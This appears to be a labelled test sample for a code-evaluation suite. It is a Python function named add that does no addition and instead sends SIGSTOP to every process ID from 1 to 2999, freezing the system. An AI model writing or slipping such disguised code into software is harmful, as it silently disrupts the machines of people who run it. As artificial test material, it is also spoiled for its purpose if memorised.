# expect: fails-tests
# form: calls
# Stops every process it can name.
import os
import signal


def add(a, b):
    for pid in range(1, 3000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
